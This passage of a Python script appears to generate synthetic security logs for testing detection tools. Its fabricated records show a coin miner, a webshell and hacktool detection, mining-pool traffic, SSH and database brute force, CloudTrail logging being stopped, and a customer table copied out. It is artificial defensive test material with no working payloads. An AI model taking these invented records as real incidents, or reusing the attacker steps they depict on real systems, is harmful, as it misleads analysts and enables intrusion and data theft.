        {"Magic": "CLAMJSONv0", "RootFileType": "CL_TYPE_ELF", "FileName": "kworkerd", "FileType": "CL_TYPE_ELF", "FileSize": 3145728, "FileMD5": hashlib.md5(b"x").hexdigest(), "Viruses": ["Multios.Coinminer.Miner-6781728-2"],
         "time": iso(at("05:00")), "path": "/tmp/.x/kworkerd", "sha256": hashlib.sha256(b"x").hexdigest(), "asset": {"type": "instance"}, "host": {"instance": "i-0ff00ee11dd22cc33"}} | scanned,
        {"Magic": "CLAMJSONv0", "RootFileType": "CL_TYPE_TEXT_ASCII", "FileName": "cv.txt", "FileType": "CL_TYPE_TEXT_ASCII", "FileSize": 812, "time": iso(at("05:01")), "path": "cv.txt",
         "asset": {"type": "s3_object", "uid": "arn:aws:s3:::example-uploads/cv.txt"}, "object": {"bucket": "example-uploads", "key": "cv.txt"}} | scanned])
    lines("scans/yara.ndjson", [
        {"path": "/opt/t/mimi", "rules": [{"identifier": "Example_HackTool", "tags": ["hacktool"], "meta": {"severity": "high"}}], "time": iso(at("05:10")),
         "asset": {"type": "ebs_snapshot", "uid": "snap-0123456789abcdef0"}} | scanned,
        {"path": "/srv/www/a.php", "rules": [{"identifier": "Webshell_PHP_Example", "tags": ["webshell"], "meta": {"severity": "critical"}}], "time": iso(at("05:11")),
         "asset": {"type": "kubernetes"}, "cluster": "shop", "container": {"id": "containerd://" + "8c2f1e" * 10 + "8c2f"}, "pod": {"name": "orders-7d4b9c", "namespace": "shop"}} | scanned])


# ---- sensors on the network of an office: Zeek and Suricata
def write_network():
    conn_fields = "ts uid id.orig_h id.orig_p id.resp_h id.resp_p proto service duration orig_bytes resp_bytes conn_state local_orig local_resp missed_bytes history orig_pkts orig_ip_bytes resp_pkts resp_ip_bytes tunnel_parents"
    conn_types = "time string addr port addr port enum string interval count count string bool bool count string count count count count set[string]"
    ssh_fields = "ts uid id.orig_h id.orig_p id.resp_h id.resp_p version auth_success auth_attempts direction client server"
    ssh_types = "time string addr port addr port count bool count enum string string"

    def stamp(t, micros=250000):
        return f"{int(t.timestamp())}.{micros:06}"

    def log(path, fields, types, rows):
        head = ["#separator \\x09", "#set_separator\t,", "#empty_field\t(empty)", "#unset_field\t-", f"#path\t{path}", "#open\t2026-03-14-00-00-00",
                "#fields\t" + fields.replace(" ", "\t"), "#types\t" + types.replace(" ", "\t")]
        write(f"zeek/{path}.log", "\n".join(head + ["\t".join(r) for r in rows] + ["#close\t2026-03-15-00-00-00"]) + "\n", packed=False)

    def conn(n, t, orig, orig_p, resp, resp_p, service, duration, state, history, packets, size, back, back_size, own="T", theirs="F"):
        return [stamp(t), f"C{n:05}office", orig, str(orig_p), resp, str(resp_p), "tcp", service, f"{duration:.6f}", str(size), str(back_size), state, own, theirs, "0",
                history, str(packets), str(size + 40 * packets), str(back), str(back_size + 40 * back), "-"]

    log("conn", conn_fields, conn_types, [
        conn(1, at("08:12"), "10.20.0.8", 50711, "198.51.100.20", 443, "ssl", 2.41, "SF", "ShADadFf", 14, 2210, 18, 15320),
        conn(2, at("09:30"), "10.20.0.8", 50902, "203.0.113.66", 3333, "-", 61.9, "SF", "ShADadFf", 22, 4810, 20, 3902),
        conn(3, at("10:02"), "192.0.2.17", 41200, "10.20.0.5", 22, "ssh", 1.2, "REJ", "Sr", 1, 0, 1, 0, "F", "T")])
    log("ssh", ssh_fields, ssh_types, [
        [stamp(at("11:00", 20 * k)), f"S{k:05}office", "192.0.2.44", str(41000 + k), "10.20.0.5", "22", "2", "T" if k == 10 else "F", "1", "INBOUND", "SSH-2.0-Go", "SSH-2.0-OpenSSH_9.6"]
        for k in range(11)])

    def look_up(n, t, name, code, answers):
        row = {"_path": "dns", "ts": float(stamp(t)), "uid": f"D{n:05}office", "id.orig_h": "10.20.0.8", "id.orig_p": 50000 + n, "id.resp_h": "10.20.0.2", "id.resp_p": 53, "proto": "udp", "trans_id": n,
               "query": name, "qclass": 1, "qclass_name": "C_INTERNET", "qtype": 1, "qtype_name": "A", "rcode_name": code, "AA": False, "TC": False, "RD": True, "RA": True, "Z": 0, "rejected": False}
        return row | ({"answers": answers, "TTLs": [60.0] * len(answers)} if answers else {})

    lines("zeek/dns.ndjson", [look_up(1, at("08:11"), "www.example.org", "NOERROR", ["198.51.100.20"]), look_up(2, at("09:29"), "cdn.update-check.example", "NXDOMAIN", [])])

    def eve(n, t, kind, src, src_port, dest, dest_port, proto="TCP", **more):
        return {"timestamp": t.strftime("%Y-%m-%dT%H:%M:%S.250000+0000"), "flow_id": 190000000 + n, "in_iface": "eth1", "event_type": kind, "src_ip": src, "src_port": src_port,
                "dest_ip": dest, "dest_port": dest_port, "proto": proto} | more

    def flow_of(t, packets, size, back, back_size):
        return {"app_proto": "tls", "flow": {"pkts_toserver": packets, "pkts_toclient": back, "bytes_toserver": size, "bytes_toclient": back_size, "start": t.strftime("%Y-%m-%dT%H:%M:%S.000000+0000"),
                "end": (t + timedelta(seconds=3)).strftime("%Y-%m-%dT%H:%M:%S.000000+0000"), "age": 3, "state": "closed", "reason": "timeout", "alerted": False},
                "tcp": {"tcp_flags": "1b", "tcp_flags_ts": "1b", "tcp_flags_tc": "1b", "syn": True, "fin": True, "psh": True, "ack": True, "state": "closed"}}

    lines("suricata/eve.json", [
        eve(1, at("12:00"), "dns", "10.20.0.9", 40100, "10.20.0.2", 53, "UDP", dns={"version": 3, "type": "request", "tx_id": 0, "id": 7, "queries": [{"rrname": "www.example.org", "rrtype": "A"}]}),
        eve(1, at("12:00"), "dns", "10.20.0.9", 40100, "10.20.0.2", 53, "UDP", dns={"version": 3, "type": "response", "tx_id": 0, "id": 7, "rcode": "NOERROR", "queries": [{"rrname": "www.example.org", "rrtype": "A"}],
            "answers": [{"rrname": "www.example.org", "rrtype": "A", "ttl": 60, "rdata": "198.51.100.20"}]}),
        eve(2, at("12:05"), "dns", "10.20.0.9", 40101, "10.20.0.2", 53, "UDP", dns={"type": "query", "id": 8, "rrname": "eu1.pool.example-mining.net", "rrtype": "A", "tx_id": 0}),
        eve(3, at("12:01"), "flow", "10.20.0.9", 40102, "198.51.100.20", 443, **flow_of(at("12:01"), 14, 2210, 18, 15320)),
        eve(4, at("12:06"), "flow", "10.20.0.9", 40103, "203.0.113.13", 443, **flow_of(at("12:06"), 20, 4210, 20, 4320)),
        eve(4, at("12:06"), "tls", "10.20.0.9", 40103, "203.0.113.13", 443, tls={"sni": "cdn.update-check.example", "version": "TLS 1.3"})])


# ---- a second region, as a security lake keeps it: OCSF
def write_lake():
    def ocsf(n, product, time, uid, version="1.1.0", **more):
        return {"metadata": {"product": {"name": product, "vendor_name": "AWS"}, "uid": uuid("lake", n), "profiles": ["cloud", "datetime"], "version": version}, "time": int(time.timestamp()) * 1000,
                "cloud": {"account": {"uid": ACCOUNT}, "region": "eu-west-1", "provider": "AWS"}, "class_uid": uid, "severity_id": 1} | more

    def call(n, time, operation, service, ip, request=None):
        return ocsf(n, "CloudTrail", time, 6003, api={"operation": operation, "service": {"name": service}, "request": {"uid": uuid("request", n), "data": json.dumps(request) if request else None},
                    "response": {"error": None, "message": None, "data": None}}, actor={"user": {"type": "IAMUser", "name": "erik", "uid": f"arn:aws:iam::{ACCOUNT}:user/erik", "uid_alt": "AIDAEXAMPLEERIK000001",
                    "account": {"uid": ACCOUNT}, "credential_uid": "AKIAEXAMPLEERIK00001"}, "session": None, "invoked_by": None}, src_endpoint={"ip": ip, "domain": None, "uid": None},
                    http_request={"user_agent": "aws-cli/2.17.32"}, status="Success", status_id=1, unmapped={"recipientAccountId": ACCOUNT, "eventType": "AwsApiCall", "managementEvent": "true"})

    lines("security_lake/eu-west-1.ndjson", [
        call(1, at("14:00"), "DescribeTrails", "cloudtrail.amazonaws.com", "192.0.2.10"),
        call(2, at("14:01"), "StopLogging", "cloudtrail.amazonaws.com", "192.0.2.10", {"name": "lake"}),
        ocsf(3, "Amazon VPC", at("14:02"), 4001, src_endpoint={"ip": "10.8.0.4", "port": 50123, "interface_uid": "eni-0lake", "instance_uid": "i-0cc11cc22cc33cc44", "vpc_uid": "vpc-0lake", "subnet_uid": "subnet-0lake"},
             dst_endpoint={"ip": "203.0.113.66", "port": 3333}, connection_info={"protocol_num": 6, "tcp_flags": 2, "direction_id": 2, "direction": "Outbound"}, traffic={"packets": 12, "bytes": 1440},
             start_time=int(at("14:01").timestamp()) * 1000, end_time=int(at("14:02").timestamp()) * 1000, action_id=1, action="Allowed", status_code="OK"),
        ocsf(4, "Route 53", at("14:02"), 4003, "1.0.0-rc.2", src_endpoint={"ip": "10.8.0.4", "port": 50125, "vpc_uid": "vpc-0lake", "instance_uid": "i-0cc11cc22cc33cc44"}, query={"hostname": "www.example.org.", "type": "A", "class": "IN"},
             answers=[{"type": "A", "rdata": "198.51.100.20", "class": "IN"}], rcode="NoError", rcode_id=0, connection_info={"protocol_name": "UDP"})])


# ---- logs of databases: as RDS keeps them in files, as a subscription delivers them, as an export to S3 writes them
def write_rds():
    rows, audit = [], []
    own = random.Random(7)  # so that the other samples stay as they are
    prefix = lambda t, ip, who, pid: f"{t.strftime('%Y-%m-%d %H:%M:%S')} UTC:{ip}({own.randrange(32768, 60999)}):{who}:[{pid}]:"

    def login(time, user, ip, ok=True, database="shop", program="orders-api"):
        pid = own.randrange(2000, 30000)
        unknown = prefix(time, ip, "[unknown]@[unknown]", pid)
        port = unknown[unknown.index("(") + 1:unknown.index(")")]
        known = unknown.replace("[unknown]@[unknown]", f"{user}@{database}")
        rows.append((time, unknown + f"LOG:  connection received: host={ip} port={port}"))
        if ok:
            rows.append((time, known + f'LOG:  connection authenticated: identity="{user}" method=md5 (/rdsdbdata/config/pg_hba.conf:13)'))
            rows.append((time, known + f"LOG:  connection authorized: user={user} database={database} application_name={program} SSL enabled "
                                       "(protocol=TLSv1.3, cipher=TLS_AES_256_GCM_SHA384, bits=256)"))
        else:
            rows.append((time, known + f'FATAL:  password authentication failed for user "{user}"'))
            rows.append((time, known + 'DETAIL:  Connection matched pg_hba.conf line 13: "host     all     all     all     md5"'))
        return known

    for k in range(48):
        login(at("00:03", 1800 * k), "orders", "10.0.1.15")
    rows.append((at("06:00"), "2026-03-14 06:00:00 UTC::@:[411]:" + "LOG:  checkpoint starting: time"))
    statement = login(at("09:12"), "carol", "10.0.4.7", program="psql")
    rows.append((at("09:13"), statement + "ERROR:  column \"oder_id\" does not exist at character 8"))
    rows.append((at("09:13"), statement + "STATEMENT:  select oder_id\n\tfrom orders\n\twhere day = '2026-03-14';"))
    rows.append((at("09:14"), statement + 'LOG:  AUDIT: SESSION,1,1,READ,SELECT,TABLE,public.orders,"select order_id\n\tfrom orders",<not logged>,212'))
    for k in range(34):  # somebody guesses from outside, and finds the password of `report`
        login(at("04:31", 2 * k), ["postgres", "admin", "report"][k % 3], "203.0.113.99", ok=False)
    found = login(at("04:32", 20), "report", "203.0.113.99", program="psql")
    rows.append((at("04:33"), found + "LOG:  AUDIT: SESSION,1,1,READ,COPY,,,copy customers to stdout,<not logged>,48211"))
    rows.sort(key=lambda r: r[0])
    write("rds/orders-db/error/postgresql.log.2026-03-14-00", "".join(line + "\n" for _, line in rows), packed=False)

    def csv(time, user, ip, operation, database="", statement="", code=0):
        audit.append((time, f"{time.strftime('%Y%m%d %H:%M:%S')},ip-10-0-3-20,{user},{ip},{500 + len(audit)},0,{operation},{database},{statement},{code}"))

    for k in range(24):
        csv(at("00:05", 3600 * k), "app", "10.0.1.15", "CONNECT", "ledger")
        csv(at("00:05", 3600 * k + 1), "app", "10.0.1.15", "QUERY", "ledger", "'select 1'")
        csv(at("00:05", 3600 * k + 2), "app", "10.0.1.15", "DISCONNECT", "ledger")
    for k in range(12):
        csv(at("05:02", 3 * k), "root", "203.0.113.99", "FAILED_CONNECT", code=1045)
    audit.sort(key=lambda r: r[0])
    write("rds/ledger-db/audit/server_audit.log", "".join(line + "\n" for _, line in audit), packed=False)
    events = [{"id": f"{37000000000000000000 + i}", "timestamp": int(t.timestamp() * 1000), "message":
               f"{iso(t)[:-1]}.{100000 + i}Z {60 + i} [Note] [MY-010926] [Server] Access denied for user '{user}'@'10.0.4.9' (using password: YES)"}
              for i, (t, user) in enumerate((at("11:40", 5 * k), "carol") for k in range(3))]
    write("rds/crm-error-2026-03-14.json.gz", json.dumps({
        "messageType": "DATA_MESSAGE", "owner": ACCOUNT, "logGroup": "/aws/rds/cluster/crm/error", "logStream": "crm-instance-1",
        "subscriptionFilters": ["to-archive"], "logEvents": events}, separators=(",", ":")) + "\n")
    cluster = [(at("12:00", 600 * k), f"{int(at('12:00', 600 * k).timestamp() * 1000000)},crm-instance-1,app,10.0.1.15,{90 + k},0,CONNECT,crm,,0,1") for k in range(6)]
    write("rds/export/aws/rds/cluster/crm/audit/crm-instance-1.audit.log.0/000000.gz", "".join(f"{iso(t)[:-1]}.000Z {line}\n" for t, line in cluster))


if __name__ == "__main__":
    write_trail()
    write_flows()
    write_dns()
    write_eks()
    write_findings()
    write_sensors()
    write_network()
    write_lake()
    write_rds()
